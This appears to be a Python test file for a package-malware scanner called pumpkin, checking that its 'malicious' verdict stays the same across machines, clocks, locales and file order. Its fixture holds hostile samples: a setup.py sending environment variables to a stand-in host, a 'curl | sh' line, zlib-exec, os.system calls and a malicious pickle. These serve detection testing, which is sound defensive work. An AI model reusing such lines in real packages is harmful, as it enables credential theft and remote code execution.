"""The same evidence gives the same verdict: on another machine, another day, in another order."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from pumpkin.analysis import static
from pumpkin.commands.scan import folder
from tests.analysis.hostile import entry, tar_of

ROOT = Path(__file__).parents[2]
FILES = {
    "thing-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n",
    "thing-1.0/setup.py": b"import os, thing.b\nthing.b.tell(dict(os.environ))\nexec(__import__('zlib').loads(x))\n",
    "thing-1.0/thing/b.py": b"import urllib.request as u\ndef tell(x):\n    u.urlopen('http://198.51.100.9', str(x))\n",
    "thing-1.0/thing/\xe9\xdf\u0130.py": b"import os, socket\nos.system(socket.gethostname())\n",
    "thing-1.0/x.sh": b"curl http://198.51.100.9/x | sh\n",
    "thing-1.0/data.pkl": b"cos\nsystem\n(S'x'\ntR.",
}
ANOTHER_DAY = (
    "import time\nday = time.time() + 400 * 86400\ntime.time = lambda: day\ntime.time_ns = lambda: int(day * 1e9)\n"
)
"""What stands in `sitecustomize`: a clock a year ahead."""


def start(path: Path, place: Path, **environment: str) -> subprocess.Popen[bytes]:
    """`pumpkin scan --json` as another machine would run it."""
    place.mkdir()
    known = {"PATH": os.environ["PATH"], "PUMPKIN_DATA": str(place / "data"), "HOME": str(place)}
    argv = [sys.executable, "-m", "pumpkin", "scan", str(path), "--json"]
    return subprocess.Popen(
        argv, cwd=place, stdout=subprocess.PIPE, env={**known, "PYTHONPATH": str(ROOT), **environment}
    )


def test_two_machines_and_two_days_say_the_same(tmp_path: Path) -> None:
    path = tmp_path / "thing-1.0.tar.gz"
    path.write_bytes(tar_of(*((entry(name), data) for name, data in FILES.items())))
    clock = tmp_path / "clock"
    clock.mkdir()
    (clock / "sitecustomize.py").write_text(ANOTHER_DAY)
    here = start(path, tmp_path / "a", PYTHONHASHSEED="1", LC_ALL="C.UTF-8", TZ="UTC")
    there = start(
        path, tmp_path / "b", PYTHONHASHSEED="4711", LC_ALL="C", TZ="Asia/Kolkata", LANG="tr_TR.UTF-8",
        PYTHONPATH=f"{clock}:{ROOT}", PYTHONUTF8="0",
    )  # fmt: skip
    one, other = here.communicate()[0], there.communicate()[0]
    assert one == other
    assert (here.returncode, there.returncode, json.loads(one)["outcome"]) == (1, 1, "malicious")


def test_the_order_of_the_files_decides_nothing() -> None:
    one = static.scan_files(FILES, "thing-1.0").as_json()
    other = static.scan_files(dict(reversed(FILES.items())), "thing-1.0").as_json()
    assert one == other
    packed = [static.scan(tar_of(*((entry(name), FILES[name]) for name in order)), "thing-1.0.tar.gz").as_json()
              for order in (sorted(FILES), sorted(FILES, reverse=True))]  # fmt: skip
    assert packed[0]["artifact"].pop("sha256") != packed[1]["artifact"].pop("sha256")
    assert [one["artifact"].pop("size") > 0 for one in packed] == [True, True]
    assert packed[0] == packed[1]


def test_the_order_in_which_a_folder_was_filled_decides_nothing(tmp_path: Path) -> None:
    said = []
    for place, order in (("a", FILES), ("b", dict(reversed(FILES.items())))):
        for name, data in order.items():
            path = tmp_path / place / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        said.append(static.scan_files(folder(tmp_path / place)[0], "thing-1.0").as_json())
    assert said[0] == said[1]
